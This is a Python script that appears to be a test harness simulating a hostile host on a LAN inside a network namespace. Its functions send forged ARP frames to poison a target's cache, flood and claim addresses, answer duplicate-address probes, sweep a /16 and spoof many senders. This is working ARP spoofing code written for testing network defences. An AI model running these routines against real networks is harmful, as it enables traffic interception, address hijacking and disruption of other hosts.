#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""
A hostile host of the production LAN. Run inside a namespace.

hostile.py flap TAKEN PROBED SECONDS  take TAKEN each time it is back; take PROBED once, and answer
                                      every probe for it; print how often each
hostile.py flood V COUNT              announce V, each time from another MAC
hostile.py claim ADDRESS COUNT        announce ADDRESS
hostile.py poison V TARGET MAC COUNT  tell TARGET alone, at MAC, that V is here: in replies and
                                      in requests
hostile.py scan NET DEV               ask for each of the 65,536 addresses of NET; print how many
                                      answer
hostile.py senders V COUNT DEV        ask for V in the name of COUNT others, each at a MAC of
                                      its own
"""
import os
import random
import socket
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../lib"))
from frames import ETH_ARP, arp_frame, mac, own_mac, packet_socket, receive  # noqa: E402

EVERYBODY, NOBODY = b"\xff" * 6, b"\0" * 6
ME_IP = "10.1.0.66"


def v4(text):
    return socket.inet_aton(text)


def liar(n):
    return b"\x02\x66" + n.to_bytes(4, "big")


def flap(taken, probed, seconds):
    s, me = packet_socket("eth0", ETH_ARP), own_mac("eth0")
    end, ask_at, losses, probes = time.monotonic() + float(seconds), 0, 0, 0
    s.send(arp_frame(1, me, probed, NOBODY, probed))
    while time.monotonic() < end:
        if time.monotonic() >= ask_at:
            s.send(arp_frame(1, me, ME_IP, NOBODY, taken))
            ask_at = time.monotonic() + 0.05
        for f in receive(s, 0.05, lambda f: f[12:14] == b"\x08\x06"):
            sender, target = f[28:32], f[38:42]
            if f[20:22] == b"\0\x02" and sender == v4(taken):
                losses += 1
                s.send(arp_frame(1, liar(losses), taken, NOBODY, taken))
                # What it answered meanwhile is no return.
                ask_at = time.monotonic() + 0.3
                for _ in receive(s, 0.2, lambda f: True):
                    pass
            elif f[20:22] == b"\0\x01" and sender == v4("0.0.0.0") and target == v4(probed):
                probes += 1
                s.send(arp_frame(2, me, probed, f[6:12], probed, f[6:12]))
    print(losses, probes)


def flood(v, count):
    s = packet_socket("eth0", ETH_ARP)
    for n in range(int(count)):
        s.send(arp_frame(random.choice((1, 2)), liar(random.getrandbits(32)), v, NOBODY, v))


def claim(address, count):
    s, me = packet_socket("eth0", ETH_ARP), own_mac("eth0")
    for n in range(int(count)):
        s.send(arp_frame(1 + n % 2, me, address, NOBODY, address))


def poison(v, target, at, count):
    s, me = packet_socket("eth0", ETH_ARP), own_mac("eth0")
    for n in range(int(count)):
        s.send(arp_frame(1 + n % 2, me, v, NOBODY, target, mac(at)))


def scan(net, dev):
    s, me = packet_socket(dev, ETH_ARP), own_mac(dev)
    base = v4(net)[:2]
    seen = set()
    for n in range(65536):
        s.send(arp_frame(1, me, socket.inet_ntoa(base + b"\xff\x66"), NOBODY,
                         socket.inet_ntoa(base + n.to_bytes(2, "big"))))
        if n % 256 == 255:
            seen.update(f[28:32] for f in receive(s, 0.001, lambda f: f[:6] == me))
    seen.update(f[28:32] for f in receive(s, 0.5, lambda f: f[:6] == me))
    print(len(seen))


def senders(v, count, dev):
    s = packet_socket(dev, ETH_ARP)
    base = v4(v)[:2]
    for n in range(int(count)):
        s.send(arp_frame(1, liar(n), socket.inet_ntoa(base + (0x8000 + n).to_bytes(2, "big")),
                         NOBODY, v))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
